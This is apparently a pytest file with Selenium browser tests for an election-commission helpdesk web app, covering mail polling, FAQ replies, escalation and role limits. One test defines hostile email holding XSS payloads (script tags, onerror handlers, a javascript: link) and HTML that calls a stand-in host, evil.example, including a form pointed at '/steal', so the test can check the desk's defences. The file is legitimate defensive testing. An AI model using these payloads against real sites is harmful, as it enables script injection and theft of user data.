"""The web desk end to end in a real headless Chromium (Selenium + Debian's chromium-driver).

`kpudesk web` runs as its own process on 127.0.0.1 against the real Dovecot of the suite and
the aiosmtpd test server; the officers' day is clicked through as they would: a party's mail
is polled, found by a word of its body, answered with an FAQ Sipol answer, escalated to the
Anggota KPU who answers it; a chair cannot close; hostile mail stays inert in the browser.
"""
from __future__ import annotations

import email
import json
import os
import signal
import socket
import subprocess
import sys
import time
from email.message import EmailMessage
from email.policy import default as default_policy
from urllib.parse import urlparse

import pytest
from selenium import webdriver
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By
from selenium.webdriver.support import expected_conditions as EC
from selenium.webdriver.support.ui import WebDriverWait

from tests.corpus.hostile import party_mail
from tests.desk import Desk

RINA = "rina@kpu-mesuji.example.org"      # anggota-helpdesk (tests/desk.py)
AHMAD = "ahmad@kpu-mesuji.example.org"    # anggota-kpu (tests/desk.py)
KETUA = "ketua@kpu-mesuji.example.org"    # the chair: reads, changes nothing
PASSWORD = "kata-sandi-uji-123"
PARTY = "sekretariat@pkb-mesuji.example"
EXTRA = f"""
[escalation]
anggota = ["{AHMAD}"]

[[officers]]
name = "Siti Ketua"
email = "{KETUA}"
role = "ketua"
"""


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture(scope="module")
def browser():
    opts = webdriver.ChromeOptions()
    opts.binary_location = "/usr/bin/chromium"
    # The flags this sandbox needs (root, no GPU, a closed network: no background traffic).
    for flag in ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--disable-quic",
                 "--no-first-run", "--disable-background-networking", "--disable-component-update",
                 "--disable-sync", "--window-size=1280,1000"):
        opts.add_argument(flag)
    opts.set_capability("goog:loggingPrefs", {"performance": "ALL", "browser": "ALL"})
    driver = webdriver.Chrome(options=opts, service=Service("/usr/bin/chromedriver"))
    driver.implicitly_wait(0)
    yield driver
    driver.quit()


class WebDesk:
    """A kpudesk installation with `kpudesk web` running, and the browser to drive it."""

    def __init__(self, desk: Desk, smtp, base: str, proc, driver) -> None:
        self.desk, self.smtp, self.base, self.proc, self.driver = desk, smtp, base, proc, driver

    def wait(self, timeout: float = 10):
        return WebDriverWait(self.driver, timeout)

    def login(self, who: str) -> None:
        d = self.driver
        d.delete_all_cookies()
        d.get(self.base + "/login")
        d.find_element(By.NAME, "email").send_keys(who)
        d.find_element(By.NAME, "password").send_keys(PASSWORD)
        d.find_element(By.CSS_SELECTOR, "form[action$='/login'] [type=submit]").click()
        self.wait().until(lambda drv: not urlparse(drv.current_url).path.startswith("/login"))

    def open_ticket(self, ticket_id: int) -> None:
        self.driver.get(f"{self.base}/tickets/{ticket_id}")
        self.wait().until(EC.presence_of_element_located((By.CSS_SELECTOR, "[data-message-id]")))

    def status_text(self) -> str:
        return self.wait().until(EC.presence_of_element_located((By.CSS_SELECTOR, "[role=status]"))).text

    def ticket(self, ticket_id: int) -> dict:
        return self.desk.json("tickets", "show", str(ticket_id))

    def foreign_requests(self) -> list[str]:
        """Every URL the browser asked for since the last call that is not the desk's own."""
        urls = []
        for entry in self.driver.get_log("performance"):
            msg = json.loads(entry["message"])["message"]
            if msg.get("method") == "Network.requestWillBeSent":
                url = msg["params"]["request"]["url"]
                if not (url.startswith(self.base) or url.startswith(("data:", "about:", "blob:"))):
                    urls.append(url)
        return urls


@pytest.fixture
def web(tmp_path, imap_user, smtp_server, browser):
    desk = Desk(tmp_path, imap_user, smtp=smtp_server, extra=EXTRA)
    desk.app()  # the database, as the daemon's first start makes it
    for who in (RINA, AHMAD, KETUA):
        r = subprocess.run([sys.executable, "-m", "kpudesk.daemon", "--config", str(desk.settings_path),
                            "officers", "passwd", who], input=PASSWORD + "\n", text=True,
                           capture_output=True, env={**os.environ, **desk.env}, timeout=60)
        assert r.returncode == 0, r.stderr
    port = _free_port()
    proc = desk.spawn("web", "--listen", f"127.0.0.1:{port}")
    line = proc.stderr.readline().decode()
    assert line.startswith("listening on "), line + proc.stderr.read().decode()
    yield WebDesk(desk, smtp_server, f"http://127.0.0.1:{port}", proc, browser)
    proc.send_signal(signal.SIGTERM)
    proc.wait(timeout=20)


def _poll_one(web: WebDesk, raw: bytes) -> int:
    web.desk.imap_user.append("INBOX", raw)
    assert web.desk.run("poll").code == 0
    assert web.desk.run("send").code == 0  # the acknowledgement
    tickets = web.desk.json("tickets", "list")
    return max(t["id"] for t in tickets)


def _sent_to(smtp, address: str) -> list[email.message.EmailMessage]:
    out = []
    for m in smtp.messages:
        msg = email.message_from_bytes(m.data, policy=default_policy)
        if address in (msg.get("To") or ""):
            out.append(msg)
    return out


def test_party_mail_found_answered_with_faq_and_sent_once(web):
    raw = party_mail(PARTY, "Pertanyaan unggah KTA", "Selamat pagi, bagaimana cara mengunggah dokumen "
                     "keanggotaan (KTA) ke Sipol? Berkasnya kebesaran. Terima kasih, Budi, PKB Mesuji",
                     message_id="<tanya-kta-1@pkb-mesuji.example>")
    tid = _poll_one(web, raw)
    acks = len(_sent_to(web.smtp, PARTY))
    web.login(RINA)
    d = web.driver
    d.get(web.base + "/")
    box = d.find_element(By.NAME, "q")
    box.send_keys("kebesaran")  # a word of the body only, not of the subject
    box.submit()
    row = web.wait().until(EC.presence_of_element_located((By.CSS_SELECTOR, f"[data-ticket-id='{tid}']")))
    assert len(d.find_elements(By.CSS_SELECTOR, "[data-ticket-id]")) == 1
    row.find_element(By.CSS_SELECTOR, f"a[href$='/tickets/{tid}']").click()
    web.wait().until(EC.presence_of_element_located((By.CSS_SELECTOR, "[data-message-id]")))
    body = d.find_element(By.CSS_SELECTOR, f"form[action$='/tickets/{tid}/reply'] [name=body]")
    assert body.get_attribute("value") == ""  # pre-filled with nothing
    faq = d.find_element(By.CSS_SELECTOR, "[data-faq-id]")
    faq_id = faq.get_attribute("data-faq-id")
    faq.click()
    web.wait().until(lambda drv: drv.find_element(
        By.CSS_SELECTOR, f"form[action$='/tickets/{tid}/reply'] [name=body]").get_attribute("value").strip())
    body = d.find_element(By.CSS_SELECTOR, f"form[action$='/tickets/{tid}/reply'] [name=body]")
    body.send_keys("\n\nSalam, Rina")
    body.find_element(By.XPATH, "./ancestor::form").submit()
    assert "antrean" in web.status_text().lower() or "dikirim" in web.status_text().lower()
    assert web.desk.run("send").code == 0
    answers = _sent_to(web.smtp, PARTY)[acks:]
    assert len(answers) == 1
    assert answers[0]["In-Reply-To"] == "<tanya-kta-1@pkb-mesuji.example>"
    assert "Salam, Rina" in answers[0].get_body(("plain",)).get_content()
    shown = web.ticket(tid)
    assert any(e["kind"] == "ticket.answered" and (e.get("detail") or {}).get("faq") == faq_id
               for e in shown["events"]), shown["events"]


def test_escalation_to_the_anggota_who_answers_in_the_desk(web):
    raw = party_mail(PARTY, "Keanggotaan ganda antar kabupaten", "Anggota kami tercatat ganda dengan partai "
                     "lain di kabupaten tetangga, apa yang harus kami lakukan? Budi, PKB",
                     message_id="<ganda-1@pkb-mesuji.example>")
    tid = _poll_one(web, raw)
    web.login(RINA)
    web.open_ticket(tid)
    d = web.driver
    form = d.find_element(By.CSS_SELECTOR, f"form[action$='/tickets/{tid}/escalate']")
    target = form.find_element(By.NAME, "target")
    if target.tag_name == "select":
        target.find_element(By.CSS_SELECTOR, "option[value=anggota]").click()
    else:
        form.find_element(By.CSS_SELECTOR, "[name=target][value=anggota]").click()
    form.find_element(By.NAME, "message").send_keys("Mohon arahan Bapak, tidak ada di FAQ.")
    form.submit()
    web.status_text()
    assert web.ticket(tid)["status"] == "eskalasi-anggota"

    before = len(_sent_to(web.smtp, PARTY))
    web.login(AHMAD)
    d.get(web.base + "/escalations")
    web.wait().until(EC.presence_of_element_located((By.CSS_SELECTOR, f"[data-ticket-id='{tid}']")))
    web.open_ticket(tid)
    body = d.find_element(By.CSS_SELECTOR, f"form[action$='/tickets/{tid}/reply'] [name=body]")
    body.send_keys("Silakan minta anggota tersebut membuat surat pernyataan. Ahmad, Anggota KPU")
    body.find_element(By.XPATH, "./ancestor::form").submit()
    web.status_text()
    assert web.desk.run("send").code == 0
    answers = _sent_to(web.smtp, PARTY)[before:]
    assert [m["In-Reply-To"] for m in answers] == ["<ganda-1@pkb-mesuji.example>"]
    assert len(answers) == 1 and "surat pernyataan" in answers[0].get_body(("plain",)).get_content()


def test_chair_reads_but_cannot_close(web):
    tid = _poll_one(web, party_mail(PARTY, "Jadwal verifikasi", "Kapan jadwal verifikasi faktual? Budi"))
    web.login(KETUA)
    web.open_ticket(tid)
    d = web.driver
    assert not d.find_elements(By.CSS_SELECTOR, f"form[action$='/tickets/{tid}/close']")
    # A forged POST from the chair's own page, with the chair's valid CSRF token: refused by the server.
    status = d.execute_script("""
        const token = document.querySelector('input[name=csrf_token]').value;
        const r = new XMLHttpRequest();
        r.open('POST', '/tickets/' + arguments[0] + '/close', false);
        r.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded');
        r.send('csrf_token=' + encodeURIComponent(token));
        return r.status;""", tid)
    assert status == 403
    assert web.ticket(tid)["status"] == "baru"


HOSTILE_SUBJECT = "<script>window.__pwned='subject'</script> Tanya <img src=x onerror=\"window.__pwned='subj-img'\">"
HOSTILE_HTML = """<html><body><p>Pertanyaan tentang Sipol</p>
<script>window.__pwned='script'</script>
<img src="x" onerror="window.__pwned='onerror'">
<a href="javascript:window.__pwned='link'" id="evil">klik di sini</a>
<img src="http://evil.example/track.png">
<iframe src="http://evil.example/frame"></iframe>
<form action="http://evil.example/steal"><input name=p></form>
</body></html>"""


def test_hostile_mail_runs_no_script_and_loads_nothing_foreign(web):
    m = EmailMessage()
    m["From"] = PARTY
    m["To"] = "helpdesk@kpu-mesuji.example.org"
    m["Subject"] = HOSTILE_SUBJECT
    m["Message-ID"] = "<hostile-1@pkb-mesuji.example>"
    m.set_content(HOSTILE_HTML, subtype="html")
    tid = _poll_one(web, m.as_bytes())
    web.login(RINA)
    web.foreign_requests()  # clear the log
    d = web.driver
    d.get(web.base + "/")
    web.wait().until(EC.presence_of_element_located((By.CSS_SELECTOR, f"[data-ticket-id='{tid}']")))
    web.open_ticket(tid)
    time.sleep(1)  # let any onerror handler fire
    for link in d.find_elements(By.PARTIAL_LINK_TEXT, "klik di sini"):
        try:
            link.click()
        except Exception:  # noqa: BLE001 - a link the browser refuses is the point
            pass
    frames = d.find_elements(By.TAG_NAME, "iframe")
    for i in range(len(frames)):
        d.switch_to.frame(i)
        assert d.execute_script("return window.__pwned === undefined")
        d.switch_to.default_content()
    assert d.execute_script("return window.__pwned === undefined")
    assert "<script>window.__pwned='subject'</script>" in d.find_element(By.TAG_NAME, "body").text  # shown as text
    assert web.foreign_requests() == []


def test_the_payload_would_run_on_a_page_without_the_desks_defences(browser):
    """The control for the test above: the same markup on a bare page sets the flag, so a flag
    left unset on the desk's pages is the desk's doing, not the browser's."""
    browser.get("about:blank")
    browser.execute_script("document.body.innerHTML = arguments[0]", HOSTILE_HTML)
    WebDriverWait(browser, 5).until(lambda d: d.execute_script("return window.__pwned !== undefined"))


def test_the_queue_offers_a_reload_when_new_mail_arrives(web):
    """An officer's open queue: the party's next mail is polled meanwhile; the page says
    so (role=status, with a reload link) without reloading under the officer's hands."""
    first = _poll_one(web, party_mail(PARTY, "Jadwal verifikasi", "Kapan jadwal verifikasi faktual? Budi, PKB",
                                      message_id="<jadwal-1@pkb-mesuji.example>"))
    web.login(RINA)
    d = web.driver
    d.get(web.base + "/")
    web.wait().until(EC.presence_of_element_located((By.CSS_SELECTOR, f"[data-ticket-id='{first}']")))
    notice = d.find_element(By.ID, "queue-arrivals")
    d.execute_script("window.dispatchEvent(new Event('focus'))")
    time.sleep(1)
    assert not notice.is_displayed()  # nothing new yet: no notice
    second = _poll_one(web, party_mail("lain@gerindra-mesuji.example", "Akun Sipol",
                                       "Akun Sipol kami belum aktif. Dedi, Gerindra",
                                       message_id="<akun-1@gerindra-mesuji.example>"))
    d.execute_script("window.dispatchEvent(new Event('focus'))")
    web.wait().until(lambda drv: notice.is_displayed())
    assert notice.get_attribute("role") == "status" and "1 surel baru" in notice.text
    assert not d.find_elements(By.CSS_SELECTOR, f"[data-ticket-id='{second}']")  # not reloaded by itself
    d.find_element(By.ID, "queue-arrivals-reload").click()
    web.wait().until(EC.presence_of_element_located((By.CSS_SELECTOR, f"[data-ticket-id='{second}']")))
